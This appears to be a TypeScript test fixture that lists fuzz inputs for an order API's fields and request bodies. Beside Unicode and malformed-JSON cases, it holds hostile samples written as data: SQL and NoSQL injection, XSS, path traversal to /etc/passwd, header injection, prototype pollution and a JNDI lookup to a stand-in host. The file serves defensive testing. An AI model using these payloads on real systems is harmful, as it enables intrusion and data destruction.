/** What people, programs and attackers put into fields, each under a name for the report of the test. */
export const FUZZ_STRINGS: readonly (readonly [name: string, text: string])[] = [
  ['nothing', ''],
  ['spaces', '   \t\n '],
  ['no-break spaces', '\u00a0\u2003\u200b'],
  ['a zero', '\u0000'],
  ['a zero inside', 'КД\u0000204518'],
  ['controls', '\u0001\u0008\u001b[31m\u007f\u0085'],
  ['half a pair', '\ud83d'],
  ['the other half', 'КД-\udc00-1'],
  ['emoji', '👨‍👩‍👧‍👦🇷🇺🏳️‍🌈'],
  ['right to left', '\u202eКД-204518\u202c'],
  ['Arabic and Hebrew', 'مرحبا שלום'],
  ['stacked marks', `Z${'\u0351\u036b\u0343'.repeat(60)}`],
  ['byte order mark', '\ufeffКД-204518'],
  ['not a character', '\uffff\ufffe'],
  ['SQL with a quote', "'; DROP TABLE parcel; --"],
  ['SQL that is true', "' OR '1'='1"],
  ['SQL with a cast', "1'::int--"],
  ['LIKE', '%_%'],
  ['backslashes', '\\\\\\x00\\u0000\\'],
  ['a script', '<script>alert(1)</script>'],
  ['an attribute', '"><img src=x onerror=alert(1)>'],
  ['a template', '${7*7}{{7*7}}#{7*7}<%= 7*7 %>'],
  ['a path', '../../../../etc/passwd'],
  ['a path of Windows', 'C:\\CON\\..\\NUL'],
  ['an encoded path', '%2e%2e%2f%00'],
  ['a header', 'x\r\nSet-Cookie: a=b'],
  ['a prototype', '__proto__'],
  ['a constructor', 'constructor.prototype'],
  ['null', 'null'],
  ['undefined', 'undefined'],
  ['not a number', 'NaN'],
  ['a great number', '9'.repeat(40)],
  ['a formula', '=HYPERLINK("http://a.example";"x")'],
  ['a pattern', '(a+)+$'],
  ['a format', '%s%n%x'],
  ['JNDI', '${jndi:ldap://a.example/x}'],
  ['a hundred kilobytes', 'Я'.repeat(100_000)],
]

/** What stands where a text should. */
export const FUZZ_VALUES: readonly (readonly [name: string, value: unknown])[] = [
  ['null', null],
  ['a list', ['КД-204518']],
  ['an empty list', []],
  ['an object', { $ne: '' }],
  ['a number', 204_518],
  ['true', true],
  ['a deep list', JSON.parse(`${'['.repeat(500)}${']'.repeat(500)}`)],
]

/** Bodies that are no JSON of ours, each with the kind that it says it is. */
export const BROKEN_BODIES: readonly (readonly [
  name: string,
  type: string,
  body: string | Buffer,
])[] = [
  ['nothing at all', 'application/json', ''],
  ['half an object', 'application/json', '{"order_id":"КД'],
  ['a bare word', 'application/json', 'order_id'],
  ['null', 'application/json', 'null'],
  ['a list', 'application/json', '[]'],
  ['a text', 'application/json', '"order_id"'],
  ['no UTF-8', 'application/json', Buffer.from([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x3a, 0x31, 0x7d])],
  ['a zero', 'application/json', '\0'],
  ['a poisoned prototype', 'application/json', '{"__proto__":{"order_id":"x"}}'],
  ['deep nesting', 'application/json', '['.repeat(20_000)],
  ['a form', 'application/x-www-form-urlencoded', 'order_id=1'],
  ['text', 'text/plain', '{"order_id":"1"}'],
  ['no kind', 'x', '{}'],
  [
    'multipart',
    'multipart/form-data; boundary=b',
    '--b\r\nContent-Disposition: form-data; name="order_id"\r\n\r\n1\r\n--b--\r\n',
  ],
  ['multipart without its end', 'multipart/form-data; boundary=b', '--b\r\nContent-Dispo'],
  ['multipart without a boundary', 'multipart/form-data', '--b--'],
]

const UNSUPPORTED = /urlencoded|multipart|^x$/

/** What such a body is answered with: plain text is read as a text, which is no object. */
export const statusOfBroken = (type: string): number => (UNSUPPORTED.test(type) ? 415 : 400)
